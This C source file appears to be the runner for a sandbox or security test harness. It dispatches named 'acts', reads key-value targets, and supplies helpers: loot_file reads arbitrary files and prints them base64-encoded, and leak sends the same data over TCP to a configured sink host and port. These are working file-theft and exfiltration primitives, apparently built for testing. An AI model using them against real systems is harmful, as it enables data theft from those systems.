/* Finds the act, reads the targets ("key value" lines), and shows what an act got.  A program and a library: pw_act(name, targets). */
#include "native.h"

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

extern const struct pw_act *const __start_pw_acts[], *const __stop_pw_acts[];
#pragma GCC visibility push(hidden)
static struct {
	char key[32], value[1024];
} targets[128];
static int count;
#pragma GCC visibility pop

const char *target(const char *key)
{
	for (int i = 0; i < count; i++) {
		if (!strcmp(targets[i].key, key))
			return targets[i].value;
	}
	return "";
}

long target_number(const char *key)
{
	return strtol(target(key), NULL, 0);
}

static void read_targets(const char *path)
{
	FILE *f = fopen(path, "re");
	count = 0;
	snprintf(targets[count].key, sizeof targets[count].key, "targets");
	snprintf(targets[count++].value, sizeof targets[0].value, "%s", path);
	while (f && count < 128 && fscanf(f, "%31s %1023[^\n]", targets[count].key, targets[count].value) == 2)
		count++;
	if (f)
		fclose(f);
}

void say(const char *format, ...)
{
	va_list list;
	printf("PWSAY %s ", target("id"));
	va_start(list, format);
	vprintf(format, list);
	va_end(list);
	printf("\n");
	fflush(stdout);
}

int connected(void)
{
	struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons((uint16_t)target_number("sink_port"))};
	char head[64];
	int size = snprintf(head, sizeof head, "PWFIX %s ", target("id")), error;
	inet_pton(AF_INET, target("sink_host"), &to.sin_addr);
	int s = (int)syscall(SYS_socket, AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (s >= 0 && !syscall(SYS_connect, s, &to, sizeof to) && syscall(SYS_write, s, head, size) == size)
		return s;
	error = -errno;
	if (s >= 0)
		close(s);
	return error;
}

int leak(const void *data, size_t length)
{
	int s = connected(), result = 0;
	if (s < 0)
		return s;
	if (syscall(SYS_write, s, data, length) < 0)
		result = -errno;
	close(s);
	return result;
}

void loot(const void *data, size_t length)
{
	static const char digits[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
	const unsigned char *p = data;
	printf("PWLOOT:%s:", target("id"));
	for (size_t i = 0; i < length; i += 3) {
		uint32_t v = (uint32_t)p[i] << 16 | (uint32_t)(i + 1 < length ? p[i + 1] : 0) << 8 | (i + 2 < length ? p[i + 2] : 0);
		putchar(digits[v >> 18]);
		putchar(digits[v >> 12 & 63]);
		putchar(i + 1 < length ? digits[v >> 6 & 63] : '=');
		putchar(i + 2 < length ? digits[v & 63] : '=');
	}
	printf(":\n");
	fflush(stdout);
	leak(data, length);
}

void loot_fd(int fd)
{
	static char text[65536];
	ssize_t got = read(fd, text, sizeof text);
	if (got > 0)
		loot(text, (size_t)got);
	else
		say("read: %s", got ? strerror(errno) : "empty");
}

void loot_file(const char *path)
{
	int fd = (int)syscall(SYS_openat, AT_FDCWD, path, O_RDONLY | O_CLOEXEC);
	if (fd < 0) {
		say("%s: %s", path, strerror(errno));
		return;
	}
	loot_fd(fd);
	close(fd);
}

__attribute__((visibility("default"))) int pw_act(const char *name, const char *path)
{
	read_targets(path);
	printf("PWRAN:%s\n", target("id"));
	fflush(stdout);
	for (const struct pw_act *const *p = __start_pw_acts; p < __stop_pw_acts; p++) {
		if (!strcmp((*p)->name, name))
			return (*p)->run();
	}
	say("there is no act %s", name);
	return 99;
}

int main(int argc, char **argv)
{
	const char *path = getenv("PWFIX_TARGETS"); /* where argv is not its own to fill in: started as an interpreter */

	return argc < 3 ? 2 : pw_act(argv[1], path ? path : argv[2]);
}
